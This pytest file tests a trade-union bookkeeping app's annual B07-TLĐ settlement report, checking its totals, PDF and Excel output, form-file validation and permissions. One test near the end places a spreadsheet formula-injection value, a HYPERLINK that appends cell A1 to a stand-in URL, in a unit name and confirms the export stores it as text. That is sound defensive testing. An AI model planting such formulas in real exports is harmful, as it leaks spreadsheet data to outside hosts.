"""The settlement B07-TLĐ (issue 14, item 8) of a year of a unit's money built through the
services on a real SQLite file: cash and bank, a transfer each way, kinh phí by bank, dues
by cash and by a bank credit (at a higher rate than the law's, so with an excess), support,
a remittance, a fee and interest, one voided receipt, and documents outside the year.
Every line is checked against the documents as the test itself recorded and added them up,
never through the settlement's code; then the PDF's text (pdfium, as the printing tests read it) and the Excel cells."""

from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.services.bank.accounts import AccountInput, BankAccountService
from desktop.services.bank.book import BankBookService
from desktop.services.bank.statement import Statement, StatementLine
from desktop.services.bank.statement_import import DUES, Choice, StatementImportService
from desktop.services.cash.service import CashService
from desktop.services.core.errors import ValidationError
from desktop.services.documents.service import Documents
from desktop.services.dues.calc import month_index
from desktop.services.dues.remittance import RemittanceService
from desktop.services.dues.service import DuesService
from desktop.services.members.service import MemberService
from desktop.services.reports import service as reports
from desktop.services.reports.b07 import save_inputs, settlement_b07
from desktop.services.reports.b07_form import FORMS_DIR, FormError, form_for_year, load_form
from desktop.services.reports.b07_output import write_b07
from tests.desktop.printing.pdfcheck import pages_text
from tests.desktop.services.dues_helpers import add_member, setup_unit

Y = 2025
A_SALARY, B_SALARY = 8_000_000, 6_000_000
# Part A by hand: A, B, C, E, F and H on the books at 31/12/2025 (G left, D joined in 2026);
# the payroll of the months each owed: A and B twelve, C eight (maternity), E six at 7 and six
# at 10 million, F none (a fixed amount), G ten (to 14/10), H twelve.
MEMBERS_2025 = 6
PAYROLL_2025 = 12 * (A_SALARY + B_SALARY) + 8 * 7_000_000 + 6 * 7_000_000 + 6 * 10_000_000 + 10 * 5_000_000 \
    + 12 * 4_000_000


def d(month: int, day: int, year: int = Y) -> date:
    return date(year, month, day)


@pytest.fixture
def year(ctx):
    """The unit's 2025, and what the test recorded, added up by the test: money in and
    out by kind for the year, and the cash and bank balances it leaves."""
    setup_unit(ctx, group=3, higher_rate_bp=100)  # a 1 % rate by the unit's own resolution
    cash, bank, dues = CashService(ctx), BankBookService(ctx), DuesService(ctx)
    acct = BankAccountService(ctx).add(AccountInput(
        kind="bank", bank_bin="970436", account_number="0071001234567", account_name="CÔNG ĐOÀN CƠ SỞ PHÚ LÂM",
        opening_date=date(2024, 12, 1), opening_balance=3_000_000)).id
    a = add_member(ctx, "Nguyễn Thị Lan", salary=A_SALARY)
    b = add_member(ctx, "Trần Văn Bình", salary=B_SALARY)
    add_member(ctx, "Lê Thị Hoa", salary=9_000_000, joined="01/02/2026")  # not a member in 2025
    # Members of other shapes, for part A (the payroll used for dues, members at 31/12):
    c = add_member(ctx, "Phạm Thị Cúc", salary=7_000_000)  # on maternity benefit May to August: 8 months
    dues.add_exemption(c, "2025-05", "2025-08", "maternity")
    e = add_member(ctx, "Hoàng Văn Em", salary=7_000_000)  # 10.000.000 from July
    dues.set_basis(e, "2025-07", "bhxh", 10_000_000)
    add_member(ctx, "Đỗ Văn Phú", salary=20_000, basis="fixed")  # a fixed amount: no salary in the payroll
    g = add_member(ctx, "Vũ Thị Giang", salary=5_000_000)  # left on 15/10: active 10 months of the year
    MemberService(ctx).add_event(g, "left", d(10, 15), reason="Nghỉ việc")
    h = add_member(ctx, "Bùi Văn Hải", salary=4_000_000)  # left in 2026: on the books at 31/12/2025
    MemberService(ctx).add_event(h, "left", date(2026, 1, 20), reason="Nghỉ việc")
    book = {"cash": 0, "bank": 3_000_000}
    got: dict[str, int] = {}

    def add(key: str, amount: int) -> None:
        got[key] = got.get(key, 0) + amount

    def rec(kind, category, when, amount):
        cash.record(kind=kind, category=category, doc_date=when, person_name="Nguyễn Văn Tâm",
                    reason="Thu chi trong năm", amount=amount)
        book["cash"] += amount if kind == "thu" else -amount
        if when.year == Y:
            add(category, amount)

    def bank_entry(kind, category, when, amount):
        bank.record(account_id=acct, kind=kind, entry_date=when, amount=amount, content="Giấy báo", category=category)
        book["bank"] += amount if kind in ("credit", "interest") else -amount
        add(category or kind, amount)

    rec("thu", "thu_khac", date(2024, 12, 15), 5_000_000)  # 2024: in the balance brought forward
    opening = dict(book)
    # dues by cash: January to March at the law's 1 %, July at the unit's 1 % over the law's 0.5 %
    for months, when in ((["2025-01", "2025-02", "2025-03"], d(3, 10)), (["2025-07"], d(7, 20))):
        doc = dues.pay(a, months, doc_date=when)
        book["cash"] += doc.amount
        add("doan_phi", doc.amount)
    assert got["doan_phi"] == 3 * A_SALARY // 100 + A_SALARY // 100
    doc = dues.pay(c, ["2025-09"], doc_date=d(9, 25))  # a member of another shape (her exemption)
    book["cash"] += doc.amount
    add("doan_phi", doc.amount)
    voided = dues.pay(a, ["2025-08"], doc_date=d(8, 20))  # voided: counts nowhere
    cash.void(voided.id, "Thu nhầm tháng")
    # dues by a bank credit found on the statement: B's July and August at 1 %
    line = StatementLine(row=7, date=d(9, 2), credit=2 * B_SALARY // 100, debit=0,
                         description="TRAN VAN BINH NOP DOAN PHI", reference="FT25245", fingerprint="fp-b-0708")
    importer = StatementImportService(ctx)
    preview = importer.preview_statement(acct, Statement("sao-ke.xlsx", "Sheet1", {}, None, None, None, (line,), ()))
    importer.confirm(preview, {7: Choice(DUES, b, (month_index(d(7, 1)), month_index(d(8, 1))))})
    book["bank"] += line.credit
    add("doan_phi", line.credit)
    excess = (A_SALARY // 100 - A_SALARY // 200) + 2 * (B_SALARY // 100 - B_SALARY // 200) + (70_000 - 35_000)
    bank_entry("credit", "kinh_phi", d(4, 15), 10_000_000)  # kinh phí back from the upper level
    rec("thu", "cap_tren", d(5, 20), 2_000_000)  # support from the upper level
    rec("thu", "thu_khac", d(6, 1), 250_000)
    bank.transfer(account_id=acct, kind="deposit", entry_date=d(5, 2), amount=3_000_000, person_name="Thủ quỹ")
    book["cash"] -= 3_000_000
    book["bank"] += 3_000_000
    bank.transfer(account_id=acct, kind="withdrawal", entry_date=d(10, 1), amount=500_000, person_name="Thủ quỹ")
    book["cash"] += 500_000
    book["bank"] -= 500_000
    rec("chi", "tham_hoi", d(6, 12), 1_500_000)
    rec("chi", "hanh_chinh", d(6, 30), 300_000)
    rec("chi", "chi_khac", d(11, 3), 100_000)
    bank_entry("debit", "khen_thuong", d(12, 5), 700_000)
    bank_entry("debit", "hoat_dong", d(10, 20), 1_000_000)
    bank_entry("fee", None, d(6, 30), 11_000)
    bank_entry("interest", None, d(12, 25), 5_432)
    wrong = bank.record(account_id=acct, kind="credit", entry_date=d(11, 11), amount=999_000, content="Ghi nhầm",
                        category="thu_khac")
    bank.void(wrong.id, "Ghi nhầm tài khoản")  # a voided advice counts nowhere
    _plan, voucher = RemittanceService(ctx).record("2025-01", "2025-06", doc_date=d(7, 5))
    book["cash"] -= voucher.amount
    add("nop_cap_tren", voucher.amount)
    closing = dict(book)
    rec("thu", "kinh_phi", date(2026, 1, 5), 4_000_000)  # 2026: outside the year
    return {"ctx": ctx, "got": got, "opening": opening, "closing": closing, "excess": excess, "account": acct}


def expected_lines(y) -> dict[str, int]:
    g = y["got"]
    income = g["doan_phi"] + g["kinh_phi"] + g["cap_tren"] + g["thu_khac"] + g["interest"]
    spending = g["tham_hoi"] + g["khen_thuong"] + g["hoat_dong"] + g["hanh_chinh"] + g["fee"] + g["chi_khac"]
    opening = y["opening"]["cash"] + y["opening"]["bank"]
    return {"10": opening, "20": income, "21": g["doan_phi"], "21a": g["doan_phi"] - y["excess"],
            "21b": y["excess"], "23": g["kinh_phi"], "24": g["cap_tren"], "25": g["thu_khac"] + g["interest"],
            "30": spending, "31": g["tham_hoi"] + g["khen_thuong"], "32": g["hoat_dong"],
            "33": g["hanh_chinh"] + g["fee"], "35": g["chi_khac"], "37": g["nop_cap_tren"],
            "40": opening + income - spending - g["nop_cap_tren"],
            "41": y["closing"]["cash"], "42": y["closing"]["bank"]}


def test_every_line_of_the_year_agrees_with_the_documents(year):
    ctx = year["ctx"]
    st = settlement_b07(ctx, Y)
    want = expected_lines(year)
    assert {f.line.code: f.amount for f in st.lines} == want
    assert want["10"] == 8_000_000 and want["21b"] == 135_000 and want["37"] > 0
    # the excess as the remittance statements count it, too
    plans = RemittanceService(ctx).plans(month_index(d(1, 1)), month_index(d(12, 1)))
    assert sum(p.excess for p in plans) == want["21b"]
    assert want["40"] == want["41"] + want["42"]  # the books close where the form does
    assert not st.warnings
    # Part A: members on the books at 31/12 and the payroll used for dues (MEMBERS_2025,
    # PAYROLL_2025, worked out by hand above); what only the unit knows, not made up
    a = {p.key: p.value for p in st.part_a}
    assert a == {"workers_kpcd": None, "payroll_kpcd": None, "members": MEMBERS_2025, "dues_payroll": PAYROLL_2025}
    save_inputs(ctx, Y, {"workers_kpcd": 250, "payroll_kpcd": 1_500_000_000})
    a = {p.key: p.value for p in settlement_b07(ctx, Y).part_a}
    assert (a["workers_kpcd"], a["payroll_kpcd"]) == (250, 1_500_000_000)
    for bad, field in (({"workers_kpcd": -1}, "workers_kpcd"), ({"members": 3}, "members"),
                       ({"payroll_kpcd": 10 ** 16}, "payroll_kpcd")):
        with pytest.raises(ValidationError) as e:
            save_inputs(ctx, Y, bad)
        assert set(e.value.errors) == {field}


def test_the_pdf_and_the_excel_file_show_the_lines(year, tmp_path):
    ctx = year["ctx"]
    save_inputs(ctx, Y, {"workers_kpcd": 250, "payroll_kpcd": 1_500_000_000})
    want = expected_lines(year)
    # through the Báo cáo page's path: build the report, save it
    report = reports.build(ctx, "settlement", date(Y, 1, 1), date(Y, 12, 31))
    summary = {item[0]: item[1] for item in report.summary}
    assert summary["Số dư đầu năm"] == want["10"] and summary["Số dư cuối năm"] == want["40"]
    pdf = reports.save(ctx, report, tmp_path / "b07.pdf")
    text = "\n".join(pages_text(pdf))
    for words in ("Mẫu số B07-TLĐ", "BÁO CÁO QUYẾT TOÁN THU, CHI TÀI CHÍNH CÔNG ĐOÀN", "Năm 2025",
                  "A. CÁC CHỈ TIÊU CƠ BẢN", "B. CÁC CHỈ TIÊU THU, CHI TÀI CHÍNH CÔNG ĐOÀN",
                  "Tài chính công đoàn tích lũy đầu kỳ", "Trong đó: tiền gửi ngân hàng, kho bạc",
                  "Hướng dẫn số 47/HD-TLĐ", "424.000.000", "1.500.000.000", "Cấp trên duyệt"):
        assert words in text, words
    for code, amount in want.items():
        assert f"{code}* {amount:,}".replace(",", ".") in text, code
    xlsx = reports.save(ctx, report, tmp_path / "b07.xlsx")
    ws = load_workbook(xlsx).active
    cells = {r[2]: r[3] for r in ws.iter_rows(values_only=True) if len(r) > 3 and isinstance(r[2], str)}
    for code, amount in want.items():
        assert cells[code] == amount and isinstance(cells[code], int), code
    part_a = {r[1]: r[3] for r in ws.iter_rows(values_only=True) if len(r) > 3 and isinstance(r[0], int)}
    assert part_a["Số đoàn viên tại thời điểm 31/12"] == MEMBERS_2025
    assert part_a["Số lao động làm căn cứ tính tổng quỹ lương đóng kinh phí công đoàn"] == 250


def test_a_changed_past_year_shows_against_the_balance_brought_forward(year, tmp_path):
    ctx = year["ctx"]
    reports.save(ctx, reports.build(ctx, "settlement", date(Y, 1, 1), date(Y, 12, 31)), tmp_path / "2025.pdf")
    assert not settlement_b07(ctx, Y + 1).warnings
    # a 2025 receipt voided after 2025's settlement went upward: 2026 opens on less
    doc = next(x for x in CashService(ctx).docs(date_from=d(6, 1), date_to=d(6, 1)) if x.category == "thu_khac")
    CashService(ctx).void(doc.id, "Ghi trùng")
    st = settlement_b07(ctx, Y + 1)
    assert st.amount("10") == expected_lines(year)["40"] - 250_000
    assert len(st.warnings) == 1 and st.warnings[0].startswith("Mã số 10 (")
    assert "khác số tích lũy cuối kỳ đã báo cáo trong quyết toán năm 2025" in st.warnings[0]
    write_b07(Documents(ctx).header(), st, tmp_path / "2026.pdf")
    assert "khác số tích lũy cuối kỳ đã báo cáo" in " ".join(" ".join(pages_text(tmp_path / "2026.pdf")).split())


# ---- the form file -------------------------------------------------------------------------
SHIPPED = sorted(FORMS_DIR.glob("b07_tld_*.toml"))


def test_the_shipped_form_loads_and_says_what_is_confirmed():
    assert SHIPPED
    form = load_form(SHIPPED[0])
    assert form.form == "B07-TLĐ" and form.lines[0].code == "10" and form.lines[0].kind == "opening"
    # nothing in it was read in an official text (docs/research/b07-settlement-form.md)
    assert not any(ln.confirmed for ln in form.lines) and all(ln.origin for ln in form.lines)


def broken(tmp_path: Path, old: str, new: str) -> Path:
    text = SHIPPED[0].read_text(encoding="utf-8")
    assert old in text, old
    path = tmp_path / "b07_tld_broken.toml"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


@pytest.mark.parametrize("old,new,words", [
    ('kind = "opening"', 'kind = "balance"', ["Mã số 10", "cách tính “balance” không có"]),
    ('plus = ["21", "23", "24", "25"]', 'plus = ["21", "23", "24", "26"]', ["Mã số 20 cộng Mã số 26"]),
    ('plus = ["10", "20"]', 'plus = ["10", "20", "40"]', ["vòng tròn", "40 → 40"]),
    ('code = "23"', 'code = "21"', ["Mã số lặp lại: 21"]),
    ('categories = ["chi_khac"]', 'categories = ["chi_khac", "tham_hoi"]', ["“tham_hoi” được tính ở cả"]),
    ('categories = ["cap_tren"]', 'categories = ["ho_tro"]', ["loại thu không có: ho_tro"]),
    ('bank_kinds = ["fee"]\n', '', ["không dòng nào tính: fee"]),
    ('code = "10"', 'code = ""', ["thiếu Mã số"]),
    ('confirmed = false', 'confirmed = "chưa"', ["confirmed = true|false"]),
    ('[[line]]', '[[line]', ["sai cú pháp TOML"]),
])
def test_a_broken_form_file_is_refused_with_its_reason(tmp_path, old, new, words):
    path = broken(tmp_path, old, new)
    with pytest.raises(FormError) as e:
        load_form(path)
    assert e.value.message.startswith("Tệp mẫu biểu b07_tld_broken.toml: ")
    for w in words:
        assert w in e.value.message, e.value.message


def test_a_federations_corrected_copy_beside_the_database_wins(ctx, tmp_path):
    folder = tmp_path / "forms"
    folder.mkdir()
    text = SHIPPED[0].read_text(encoding="utf-8")
    (folder / "b07_tld_fed.toml").write_text(
        text.replace('version = "hd47-2021-r1"', 'version = "hd47-2021-r2"', 1)
        .replace('label = "Chi khác"', 'label = "Các khoản chi khác"', 1), encoding="utf-8")
    form = form_for_year(Y, folder)
    assert form.version == "hd47-2021-r2" and form.line("35").label == "Các khoản chi khác"
    assert form_for_year(Y).version == "hd47-2021-r1"
    # a broken copy is not passed over in silence
    (folder / "b07_tld_fed.toml").write_text(text.replace('kind = "sum"', 'kind = "total"', 1), encoding="utf-8")
    with pytest.raises(FormError, match=r"b07_tld_fed\.toml"):
        form_for_year(Y, folder)
    setup_unit(ctx)
    with pytest.raises(ValidationError, match="Năm: chỉ lập quyết toán cho năm từ 2000 đến năm nay, không cho năm 1999"):
        settlement_b07(ctx, 1999)


def test_a_later_numbered_version_wins_as_a_number_not_as_text(tmp_path):
    # "r10" sorts before "r9" as text: the tenth correction must win over the ninth.
    folder = tmp_path / "forms"
    folder.mkdir()
    text = SHIPPED[0].read_text(encoding="utf-8")
    for name, version, label in (("b07_tld_a.toml", "hd47-2021-r10", "Chi khác (sửa lần 10)"),
                                 ("b07_tld_b.toml", "hd47-2021-r9", "Chi khác (sửa lần 9)")):
        (folder / name).write_text(text.replace('version = "hd47-2021-r1"', f'version = "{version}"', 1)
                                   .replace('label = "Chi khác"', f'label = "{label}"', 1), encoding="utf-8")
    form = form_for_year(Y, folder)
    assert form.version == "hd47-2021-r10" and form.line("35").label == "Chi khác (sửa lần 10)"


def test_members_at_the_year_end_are_the_apps_one_count(year):
    """Part A's members are counted as every page counts them (members.counts: on the books),
    at 31/12: for this year, with nothing dated after today, the count the pages show."""
    from desktop.services.members.counts import member_count
    ctx = year["ctx"]
    this_year = date.today().year
    with ctx.read() as s:
        shown = member_count(DuesService(ctx), s, month_index(date.today())).current
    assert shown == 6  # A, B, C, E, F and the member who joined in 2026 (G and H left)
    assert {p.key: p.value for p in settlement_b07(ctx, this_year).part_a}["members"] == shown


def test_only_the_books_keepers_type_part_a_and_record_the_year(year, tmp_path):
    from desktop.services.core.permissions import CurrentUser, PermissionDeniedError
    ctx = year["ctx"]
    ctx.user = CurrentUser("v", "Người xem", "viewer")
    with pytest.raises(PermissionDeniedError):
        save_inputs(ctx, Y, {"workers_kpcd": 10})
    # a viewer may look and print; its copy is not recorded as the one sent upward
    reports.save(ctx, reports.build(ctx, "settlement", date(Y, 1, 1), date(Y, 12, 31)), tmp_path / "v.pdf")
    doc = next(x for x in CashService(ctx).docs(date_from=d(6, 1), date_to=d(6, 1)) if x.category == "thu_khac")
    ctx.user = CurrentUser("k", "Kế toán", "accountant")
    CashService(ctx).void(doc.id, "Ghi trùng")
    assert not settlement_b07(ctx, Y + 1).warnings  # nothing reported for 2025 to differ from
    save_inputs(ctx, Y, {"workers_kpcd": 10})


def test_the_excel_file_keeps_a_name_that_looks_like_a_formula_as_text(ctx, tmp_path):
    """A union named "=HYPERLINK(…)" (or "=== … ===") is text in the file, never a formula
    Excel would run, nor one that stops it opening the file."""
    from desktop.printing.data import UnitHeader
    from desktop.services.reports import settlement_b07, write_b07

    setup_unit(ctx)
    header = UnitHeader(unit_name='=HYPERLINK("http://example.invalid/"&A1,"CĐCS")', upper_name="=== LĐLĐ ===",
                        qhns_code=None, address=None, place="Hà Nội")
    out = write_b07(header, settlement_b07(ctx, Y), tmp_path / "b07.xlsx")
    ws = load_workbook(out).active
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert texts and all(c.data_type == "s" for c in texts)
    assert {c.value for c in texts} >= {"=== LĐLĐ ===", '=HYPERLINK("HTTP://EXAMPLE.INVALID/"&A1,"CĐCS")'}


def test_books_begun_mid_year_are_said_on_the_settlement(ctx):
    """The wizard's opening balances on 01/07: the year's settlement says its figures are
    from that day; a year that ended before the books began says it has nothing."""
    from desktop.services.reports import settlement_b07
    from desktop.services.units.service import UnitService

    setup_unit(ctx)
    units = UnitService(ctx)
    units.save_dues_settings(replace(units.dues_settings(), opening_balance=5_000_000,
                                     opening_date=date(Y, 7, 1)))
    BankAccountService(ctx).add(AccountInput(
        kind="bank", bank_bin="970436", account_number="0071009999999", account_name="CĐCS PHÚ LÂM",
        opening_date=date(Y, 7, 1), opening_balance=25_000_000))
    warnings = settlement_b07(ctx, Y).warnings
    assert any("Sổ quỹ tiền mặt bắt đầu ghi trên phần mềm từ ngày 01/07/2025" in w for w in warnings)
    assert any("Sổ tiền gửi Vietcombank 0071009999999 bắt đầu ghi trên phần mềm từ ngày 01/07/2025" in w
               for w in warnings)
    before = settlement_b07(ctx, Y - 1).warnings
    assert any(w.startswith("Năm 2024 kết thúc trước khi sổ sách bắt đầu") for w in before)
    assert not any("bắt đầu" in w for w in settlement_b07(ctx, Y + 1).warnings)
